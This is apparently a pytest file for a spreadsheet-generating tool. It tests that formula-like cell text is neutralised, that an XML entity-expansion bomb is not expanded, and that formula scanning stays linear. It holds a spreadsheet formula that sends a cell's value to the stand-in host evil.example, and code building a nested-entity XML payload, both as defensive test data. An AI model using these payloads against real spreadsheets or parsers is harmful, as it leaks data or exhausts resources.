"""Spreadsheets in and out under attack and in clerks' hands (issue 26 items 2–3, issue 27 items
6–11): text that looks like a formula stays text in every file sheetgen writes, a workbook that
made the formula scan super-linear reads in linear time within a bound, and the fix loop
(``batch --failed``, fix, run again) names each row's own problems, keeps every row, accepts
what clerks do (an old .xls, a number per row) and tells all problems at once.

The hostile files are in ``tests/fixtures/hostile/spreadsheets/`` (see its README).
"""

from __future__ import annotations

import csv
import io
import subprocess
import sys
import zipfile
from pathlib import Path
from typing import Any

import openpyxl
import pytest

from sheetgen.model import check_records
from sheetgen.rules import load_rules, parse_rules
from sheetgen.sources import columns as cols
from sheetgen.sources import spreadsheet as sheet_module
from sheetgen.sources.json import iter_records
from sheetgen.sources.spreadsheet import (
    SheetOptions,
    csv_bytes,
    csv_cell,
    reader,
    spreadsheet_records,
    uncsv_cell,
)
from tests.applicants import ID_JX, personal, unit
from tests.conftest import REPO
from tests.conftest import run_cli as cli
from tests.test_spreadsheet import (
    _batch,
    other_person,
    read_back,
    table,
    two_sites,
    write_csv,
    write_xlsx,
)

HOSTILE = REPO / "tests" / "fixtures" / "hostile" / "spreadsheets"
#: Text cells a spreadsheet program would run, one per formula mark of OWASP's list.
FORMULAS = ['=HYPERLINK("http://evil.example/?"&H3,"点此")', "+1+2", "-2-3", "@SUM(1,2)",
            "\t=1+1", "\r=1+1", "'=already-quoted", "''-two"]


def cells_of(path: Path, sheet: str | None = None) -> list[list[Any]]:
    workbook = openpyxl.load_workbook(path)
    ws = workbook[sheet] if sheet else workbook.active
    assert ws is not None
    return [list(row) for row in ws.iter_rows()]


# --- 26.2: formula injection ----------------------------------------------------------------

@pytest.mark.parametrize("text", [*FORMULAS, "plain", "", "'plain", "a=b", "1-2"])
def test_csv_neutralisation_reads_back_what_was_written(text: str) -> None:
    written = csv_cell(text)
    assert uncsv_cell(written) == text
    if text[:1] in ("=", "+", "-", "@", "\t", "\r") or text.lstrip("'")[:1] in (
            "=", "+", "-", "@", "\t", "\r"):
        assert written.startswith("'")  # a spreadsheet program shows it, never runs it
    else:
        assert written == text


def test_batch_failed_xlsx_keeps_formula_like_text_as_text(tmp_path: Path) -> None:
    bad = personal()
    bad["host"]["address"] = FORMULAS[0]
    bad["websites"][0]["name"] = "@SUM(1,2) 的网站"
    bad["websites"][0]["manager"]["mobile"] = "12345"   # fails: goes to --failed
    source = write_csv(tmp_path / "in.csv", table(bad))
    failed = tmp_path / "failed.xlsx"
    result = _batch([str(source)], tmp_path / "out", failed=failed, cover=False)
    assert [r.ok for r in result.records] == [False]
    header = [c.value for c in cells_of(failed)[0]]
    row = cells_of(failed)[1]
    address = row[header.index("通信地址")]
    assert address.value == FORMULAS[0] and address.data_type == "s"
    assert not any(c.data_type == "f" for line in cells_of(failed) for c in line)
    with zipfile.ZipFile(failed) as package:
        assert b"<f>" not in package.read("xl/worksheets/sheet1.xml")
    # The fix loop: checking the failed file reports the mobile, not a formula.
    [record] = list(spreadsheet_records(failed))
    assert record.value["host"]["address"] == FORMULAS[0]
    codes = {p.code for r in check_records(spreadsheet_records(failed)) for p in r.problems}
    assert "formula_no_value" not in codes and "mobile_format" in codes


@pytest.mark.parametrize("suffix", [".csv", ".tsv"])
def test_batch_failed_csv_neutralises_and_reads_back_equal(tmp_path: Path, suffix: str) -> None:
    bad = two_sites()
    bad["host"]["address"] = FORMULAS[0]
    bad["websites"][0]["name"] = "+86 的网站"
    bad["websites"][1]["name"] = "-2-3 测试站点"
    bad["websites"][1]["manager"]["mobile"] = "12345"
    source = write_csv(tmp_path / "in.csv", table(bad))
    failed = tmp_path / f"failed{suffix}"
    _batch([str(source)], tmp_path / "out", failed=failed, cover=False)
    raw = list(csv.reader(io.StringIO(failed.read_bytes().decode("utf-8-sig"), newline=""),
                          delimiter="\t" if suffix == ".tsv" else ","))
    flat = [cell for line in raw for cell in line]
    assert not any(cell[:1] in ("=", "+", "-", "@", "\t", "\r") for cell in flat)
    assert "'" + FORMULAS[0] in flat and "'-2-3 测试站点" in flat
    [record] = list(spreadsheet_records(failed))
    assert record.value["host"]["address"] == FORMULAS[0]
    assert [w["name"] for w in record.value["websites"]] == ["+86 的网站", "-2-3 测试站点"]


def test_the_injection_fixture_round_trips_through_failed_files(tmp_path: Path) -> None:
    source = HOSTILE / "formula-text-cells.csv"
    first = list(spreadsheet_records(source))
    for record in first:  # the filing password is never written back
        record.value["access"].pop("filing_password", None)
    assert "'" + FORMULAS[0] not in source.read_text("utf-8")  # raw in the fixture
    for suffix in (".xlsx", ".csv"):
        failed = tmp_path / f"failed{suffix}"
        _batch([str(source)], tmp_path / f"out{suffix}", failed=failed, cover=False)
        again = list(spreadsheet_records(failed))
        assert [r.value for r in again] == [r.value for r in first]


def test_receive_report_csv_neutralises_scan_names_and_references() -> None:
    from sheetgen.receive.report import to_csv

    data = to_csv([["编号 reference", "页 pages"], ["-2-3", "=HYPERLINK(1).png p1"],
                   ["@x", "\tq"], ["ok", 7]])
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    assert rows[1:] == [["'-2-3", "'=HYPERLINK(1).png p1"], ["'@x", "'\tq"], ["ok", "7"]]
    assert data == csv_bytes([["编号 reference", "页 pages"], ["-2-3", "=HYPERLINK(1).png p1"],
                              ["@x", "\tq"], ["ok", 7]])


def evil_rules(tmp_path: Path) -> Path:
    """The bundled rules with formulas where the template prints rules text: a certificate
    name (选项, 示例) and Guangdong's sample address (示例)."""
    text = (REPO / "sheetgen" / "rules" / "rules.toml").read_text("utf-8")
    text = text.replace('name = "护照"', 'name = "=HYPERLINK(\\"http://evil.example/\\",\\"x\\")"')
    marker = 'key = "guangdong"'
    head, _, tail = text.partition(marker)
    tail = tail.replace('sample_address = "', 'sample_address = "=1+1&', 1)
    path = tmp_path / "evil.toml"
    path.write_text(head + marker + tail, "utf-8")
    parse_rules(path.read_bytes(), origin=str(path))  # a valid rules file
    return path


def test_template_with_hostile_rules_writes_no_formula(tmp_path: Path) -> None:
    rules = evil_rules(tmp_path)
    out = tmp_path / "template.xlsx"
    result = cli("template", "--rules", str(rules), str(out))
    assert result.code == 0, result.stderr
    workbook = openpyxl.load_workbook(out)
    for ws in workbook.worksheets:
        assert not any(c.data_type == "f" for row in ws.iter_rows() for c in row), ws.title
    options = [c.value for row in workbook["选项"].iter_rows() for c in row if c.value]
    assert '=HYPERLINK("http://evil.example/","x")' in options
    sample = [c.value for row in workbook["示例"].iter_rows() for c in row if c.value]
    assert any(str(v).startswith("=1+1&") for v in sample)
    with zipfile.ZipFile(out) as package:
        assert not any(b"<f>" in package.read(n) for n in package.namelist()
                       if n.startswith("xl/worksheets/"))


# --- 26.3: a linear formula scan, a bound on reading -----------------------------------------

def test_a_sheet_with_cells_closed_as_c_space_reads_in_linear_time() -> None:
    """The fixture (49 KB zipped, 1 MB of sheet XML: a formula and 20 000 cells closed as
    ``</c >``) held the old regular expression for minutes; here it must finish well within a
    generous bound, in its own process so that a regression fails instead of hanging."""
    path = HOSTILE / "formula-cells-closed-with-space.xlsx"
    code = ("import sys; from pathlib import Path; "
            "from sheetgen.model import check_records; "
            "from sheetgen.sources.spreadsheet import spreadsheet_records; "
            f"r = check_records(spreadsheet_records(Path({str(path)!r}))); "
            "print(sorted({(p.code, p.row) for x in r for p in x.problems "
            "if p.code == 'formula_no_value'}))")
    proc = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True,
                          timeout=90, check=False, cwd=REPO)
    assert proc.returncode == 0, proc.stderr
    # The formula without a value is still found in a sheet closed that way.
    assert proc.stdout.strip() == "[('formula_no_value', 5)]"


def test_a_doctype_in_a_sheet_is_never_expanded(tmp_path: Path) -> None:
    lines = table(personal())
    lines[1][1] = "=A1"
    path = write_xlsx(tmp_path / "a.xlsx", lines)
    laughs = (b'<?xml version="1.0"?><!DOCTYPE worksheet [<!ENTITY a "aaaaaaaaaa">'
              + b"".join(b'<!ENTITY %s "%s">' % (f"b{i}".encode(), (b"&a;" if i == 0 else
                         f"&b{i - 1};".encode()) * 10) for i in range(9))
              + b"]>")
    target = tmp_path / "laughs.xlsx"
    with zipfile.ZipFile(path) as source, zipfile.ZipFile(target, "w") as out:
        for info in source.infolist():
            data = source.read(info.filename)
            if info.filename == "xl/worksheets/sheet1.xml":
                body = data.split(b"?>", 1)[1] if data.startswith(b"<?xml") else data
                data = laughs + body.replace(b"<f>", b"<f>&b8;", 1)
            out.writestr(info, data)
    proc = subprocess.run([sys.executable, "-c",
                           "import sys; from pathlib import Path; from sheetgen.sources."
                           "spreadsheet import _formula_cells, _Deadline; "
                           f"print(_formula_cells(Path({str(target)!r}).read_bytes(), 0, "
                           "_Deadline('x')))"],
                          capture_output=True, text=True, timeout=60, check=False, cwd=REPO)
    assert proc.returncode == 0 and proc.stdout.strip() == "set()", proc.stderr
    # Read as a whole it is a record with an error or a value, never a crash.
    for record in spreadsheet_records(target):
        assert record.error is None or record.error.problems


def test_reading_a_file_is_bounded_in_time(tmp_path: Path,
                                           monkeypatch: pytest.MonkeyPatch) -> None:
    path = write_xlsx(tmp_path / "slow.xlsx", table(personal(), unit()))
    monkeypatch.setattr(sheet_module, "MAX_READ_SECONDS", -1.0)  # already past the bound
    [record] = list(spreadsheet_records(path))
    assert record.error is not None
    [problem] = record.error.problems
    assert problem.code == "too_large" and "秒" in problem.message
    csv_path = write_csv(tmp_path / "slow.csv", table(*[personal()] * 1200))
    [record] = list(spreadsheet_records(csv_path))
    assert record.error is not None and record.error.problems[0].code == "too_large"


# --- 27.6: each failed row its own problems, both row numbers ---------------------------------

def test_failed_rows_name_their_own_problem_and_both_rows(tmp_path: Path) -> None:
    """Row 23-like case: two applicants fail; only some of their rows are wrong."""
    good = unit()
    first = two_sites()
    first["websites"][0]["name"] = "example.cn"          # a domain as the name: its row only
    second = other_person()
    second["websites"][1]["manager"] = {**second["websites"][1]["manager"], "mobile": "12345"}
    lines = table(good, first, second)
    source = write_csv(tmp_path / "in.csv", lines)
    failed = tmp_path / "failed.xlsx"
    _batch([str(source)], tmp_path / "out", failed=failed, cover=False)
    got = read_back(failed)
    errors = [row[-1] for row in got[1:]]
    # The source rows 3, 4 (first) and 5, 6 (second) are this file's rows 2..5.
    assert errors[0].startswith(f"本文件第 2 行（原文件 {source} 第 3 行）")
    assert "website_name" in errors[0] or "网站名称" in errors[0]
    assert "本行没有错误" in errors[1] and "第 2 行（原第 3 行）" in errors[1]
    assert "网站名称" not in errors[1]
    assert "本行没有错误" in errors[2] and "第 5 行（原第 6 行）" in errors[2]
    assert errors[3].startswith(f"本文件第 5 行（原文件 {source} 第 6 行）")
    assert "mobile_format" in errors[3] and "mobile_format" not in errors[2]


# --- 27.7: a file-level error keeps the file's rows ---------------------------------------------

@pytest.mark.parametrize("suffix", [".xlsx", ".csv"])
def test_a_missing_column_copies_the_files_rows(tmp_path: Path, suffix: str) -> None:
    lines = table(personal(), unit(), other_person())
    drop = lines[0].index("省份")
    province = {tuple(line): line[drop] for line in lines[1:]}
    cut = [[v for i, v in enumerate(line) if i != drop] for line in lines]
    source = write_csv(tmp_path / "in.csv", cut)
    failed = tmp_path / f"failed{suffix}"
    result = _batch([str(source)], tmp_path / "out", failed=failed, cover=False)
    assert [r.ok for r in result.records] == [False]
    got = read_back(failed)
    head = got[0]
    assert "省份" in head  # the missing required column, added for staff to fill
    body = got[1:]
    assert len(body) == 4  # every row of the file, none lost
    assert all("missing_column" in row[-1] for row in body)
    assert body[0][-1].startswith(f"本文件第 2 行（原文件 {source} 第 2 行）")
    # Filled in, the failed file runs: all three applicants come back.
    where = head.index("省份")
    for row, original in zip(body, lines[1:], strict=True):
        row[where] = province[tuple(original)]
    fixed = write_csv(tmp_path / "fixed.csv", [row[:-1] for row in got])
    again = _batch([str(fixed)], tmp_path / "out2", cover=False)
    assert [r.ok for r in again.records] == [True, True, True]


def test_an_unknown_column_is_copied_under_its_own_header(tmp_path: Path) -> None:
    lines = table(personal())
    lines[0].append("备注")
    lines[1].append("请尽快")
    source = write_csv(tmp_path / "in.csv", lines)
    failed = tmp_path / "failed.csv"
    _batch([str(source)], tmp_path / "out", failed=failed, cover=False)
    got = read_back(failed)
    assert got[0][-2:] == ["备注", cols.ERROR_HEADER] and got[1][-2] == "请尽快"
    assert "unknown_column" in got[1][-1]
    again = list(spreadsheet_records(failed, SheetOptions(ignore_columns=True)))
    assert [r.error for r in again] == [None]


# --- 27.8: the format by content --------------------------------------------------------------

@pytest.mark.parametrize("name", ["old.xls", "old.csv", "old.json", "old.xlsx"])
def test_a_real_xls_is_named_as_such_whatever_its_name(tmp_path: Path, name: str) -> None:
    path = tmp_path / name
    path.write_bytes((HOSTILE / "old-workbook.xls").read_bytes())
    result = cli("check", str(path))
    assert result.code != 0
    assert "旧版 .xls" in result.stderr and "UTF-8" not in result.stderr, result.stderr
    records = list(iter_records([str(path)], spreadsheets=reader()))
    assert [p.code for r in records for p in (r.error.problems if r.error else [])] == [
        "not_xlsx"]


def test_a_workbook_renamed_csv_is_read_as_a_workbook(tmp_path: Path) -> None:
    path = write_xlsx(tmp_path / "w.xlsx", table(personal()))
    renamed = tmp_path / "w.csv"
    renamed.write_bytes(path.read_bytes())
    assert [r.error for r in spreadsheet_records(renamed)] == [None]


def test_a_folder_walk_reports_an_old_xls_instead_of_skipping_it(tmp_path: Path) -> None:
    (tmp_path / "in").mkdir()
    (tmp_path / "in" / "a.xls").write_bytes((HOSTILE / "old-workbook.xls").read_bytes())
    records = list(iter_records([str(tmp_path / "in")], spreadsheets=reader()))
    assert [r.error.problems[0].code for r in records if r.error] == ["not_xlsx"]


# --- 27.9: every problem of a row at once -----------------------------------------------------

def test_a_number_id_does_not_hide_the_rows_other_problems(tmp_path: Path) -> None:
    data = personal()
    data["websites"][0]["domains"] = ["https://example.cn/help"]
    lines = table(data)
    number = lines[0].index("证件号码")
    lines[1][number] = int(ID_JX[:15])  # stored as a number: 15 digits kept, written as one
    lines[1][number] = 3.60426199101010e17
    path = write_xlsx(tmp_path / "n.xlsx", lines)
    problems = [p for r in check_records(spreadsheet_records(path)) for p in r.problems]
    codes = {(p.code, p.column) for p in problems}
    assert ("excel_number", "证件号码") in codes
    assert any(column == "网站域名" for _, column in codes), codes
    # No second report of the ID the cell problem already names.
    assert [p.column for p in problems].count("证件号码") == 1
    failed = tmp_path / "failed.xlsx"
    _batch([str(path)], tmp_path / "out", failed=failed, cover=False)
    error = read_back(failed)[1][-1]
    assert "excel_number" in error and "网站域名" in error


# --- 27.10: a number per row -------------------------------------------------------------------

def test_a_number_per_row_is_the_rows_own_reference(tmp_path: Path) -> None:
    lines = table(two_sites(), unit())
    ref = lines[0].index("编号")
    lines[1][ref], lines[2][ref] = "C-01-1", "C-01-2"
    path = write_csv(tmp_path / "refs.csv", lines)
    results = check_records(spreadsheet_records(path))
    assert [r.ok for r in results] == [True, True]
    assert results[0].applicant is not None and results[0].applicant.ref == "C-01"
    lines[1][ref], lines[2][ref] = "A7", "B9"  # no shared part: the first row's
    [first, _] = list(spreadsheet_records(write_csv(tmp_path / "r2.csv", lines)))
    assert first.error is None and first.value["ref"] == "A7"


# --- 27.11: the clerk's workbooks --------------------------------------------------------------

def test_the_example_sheet_uses_the_drop_down_values(tmp_path: Path) -> None:
    from sheetgen.documents.template import dropdown_lists, template_workbook

    rules = load_rules()
    path = tmp_path / "t.xlsx"
    path.write_bytes(template_workbook(rules))
    sample = cells_of(path, "示例")
    header = [c.value for c in sample[1]]  # the field paths row
    lists = dropdown_lists(rules)
    filled = set()
    for field_path, allowed in lists.items():
        index = header.index(field_path)
        values = {row[index].value for row in sample[2:] if row[index].value}
        assert values <= set(allowed), (field_path, values)
        if values:
            filled.add(field_path)
    # The examples fill the drop-downs every filing has (optional ones, such as a residence
    # permit, may stay empty).
    assert {"filing_type", "host.nature"} <= filled, filled


def test_failed_xlsx_keeps_the_templates_drop_downs(tmp_path: Path) -> None:
    bad = personal()
    bad["websites"][0]["manager"]["mobile"] = "12345"
    source = write_csv(tmp_path / "in.csv", table(bad))
    failed = tmp_path / "failed.xlsx"
    _batch([str(source)], tmp_path / "out", failed=failed, cover=False)
    workbook = openpyxl.load_workbook(failed)
    ws = workbook["失败的行"]
    header = [c.value for c in ws[1]]
    covered = {str(v.sqref).split(":")[0].rstrip("0123456789")
               for v in ws.data_validations.dataValidation}
    for name in ("省份", "备案类型", "主办单位性质", "主办者证件类型"):
        letter = openpyxl.utils.get_column_letter(header.index(name) + 1)
        assert letter in covered, name
    assert workbook["选项"].sheet_state == "hidden"
    assert ws.page_setup.orientation == "landscape" and ws.print_title_rows == "$1:$1"
    assert next(iter(spreadsheet_records(failed))).rows == (2,)


def test_the_registrar_message_in_a_sheet_shows_no_json(tmp_path: Path) -> None:
    data = unit()
    for website in data["websites"]:
        website["domains"] = [d["name"] if isinstance(d, dict) else d
                              for d in website["domains"]]
    lines = table(data)
    path = write_csv(tmp_path / "bj.csv", lines)
    problems = [p for r in check_records(spreadsheet_records(path)) for p in r.problems]
    registrar = [p for p in problems if p.code == "registrar_required"]
    assert registrar and all("{" not in p.message and "域名注册商" in p.message
                             for p in registrar)


def test_an_unknown_filing_type_lists_the_allowed_values() -> None:
    from sheetgen.errors import InvalidDataError
    from sheetgen.model import parse_applicant

    data = personal()
    data["filing_type"] = "新备案"
    with pytest.raises(InvalidDataError) as caught:
        parse_applicant(data)
    [problem] = [p for p in caught.value.problems if p.code == "filing_type_unknown"]
    assert "可选：新增备案、新增网站、新增接入、变更备案" in problem.message


def test_received_xlsx_is_readable_and_printable() -> None:
    from sheetgen.receive.report import HEADERS, WIDTHS, to_xlsx

    data = to_xlsx([list(HEADERS), ["QY-1", "张三", 1, 2, 2, 2, 2, "", 0, "是 yes", "否 no",
                                    "a.pdf p1", "=HYPERLINK(1).png"]], WIDTHS)
    with zipfile.ZipFile(io.BytesIO(data)) as package:
        sheet_xml = package.read("xl/worksheets/sheet1.xml").decode()
        workbook_xml = package.read("xl/workbook.xml").decode()
    assert 'orientation="landscape"' in sheet_xml and 'fitToWidth="1"' in sheet_xml
    assert "_xlnm.Print_Titles" in workbook_xml
    assert "<f>" not in sheet_xml and "=HYPERLINK(1).png" in sheet_xml
    assert len(WIDTHS) == len(HEADERS)
    assert "本网站齐全 website complete" in HEADERS
    workbook = openpyxl.load_workbook(io.BytesIO(data))
    ws = workbook.active
    assert ws is not None and [c.value for c in ws[1]] == list(HEADERS)
    assert ws["M2"].value == "=HYPERLINK(1).png" and ws["M2"].data_type == "s"


def test_received_rows_judge_each_website_and_the_record() -> None:
    from sheetgen.documents.sheetcode import LEGACY_KIND
    from sheetgen.receive import PageResult, Receipt
    from sheetgen.receive.records import RecordResult, WebsiteReceipt
    from sheetgen.receive.report import HEADERS, rows

    def page(website: int, n: int) -> PageResult:
        return PageResult(f"s{website}.pdf", n, reference="QY-1", website=website, count=2,
                          signed=True, seal=True)

    record = RecordResult("QY-1", None, websites=2, documents={
        (LEGACY_KIND, 1): WebsiteReceipt(1, LEGACY_KIND, [page(1, 1), page(1, 2)]),
        (LEGACY_KIND, 2): WebsiteReceipt(2, LEGACY_KIND, [page(2, 3)])},
        problems=[{"code": "missing_originals", "message": "网站 2：收到 1 份，应为 2 份",
                   "website": 2}])
    table = rows(Receipt([], [record]))
    site = HEADERS.index("本网站齐全 website complete")
    whole = HEADERS.index("整条记录齐全 record complete")
    number = HEADERS.index("网站 website")
    assert [(row[number], row[site], row[whole]) for row in table] == [
        (1, "是 yes", "否 no"), (2, "否 no", "否 no")]


@pytest.mark.parametrize("shape", ["formula-per-cell", "unclosed-cells", "formulas-outside",
                                   "many-formulas-one-cell", "long-cell-before-formula"])
def test_the_formula_scan_is_linear_on_every_shape(shape: str) -> None:
    """Sheets built so that a search restarting at each formula would scan to the end each
    time; 200 000 repetitions, each in a fresh process with a generous bound."""
    n = 200_000
    parts = {
        "formula-per-cell": ('<c r="A1"><f>1</f></c >', ""),
        "unclosed-cells": ('<c r="A1"><f>1</f>', ""),
        "formulas-outside": ("<f>1</f>", ""),
        "many-formulas-one-cell": ("<f>1</f>", '<c r="B2">'),
        "long-cell-before-formula": ('<c r="C3"><x/><x/><x/><f>1</f><v></v></c>', ""),
    }
    body, head = parts[shape]
    code = ("import sys; from sheetgen.sources.spreadsheet import _formula_scan, _Deadline; "
            f"xml = b'<sheetData>' + {head.encode()!r} + {body.encode()!r} * {n} "
            "+ b'</sheetData>'; "
            "print(len(_formula_scan(xml, _Deadline('x'))))")
    proc = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True,
                          timeout=60, check=False, cwd=REPO)
    assert proc.returncode == 0, proc.stderr
    expected = {"formula-per-cell": "1", "unclosed-cells": "0", "formulas-outside": "0",
                "many-formulas-one-cell": "0", "long-cell-before-formula": "1"}
    assert proc.stdout.strip() == expected[shape]
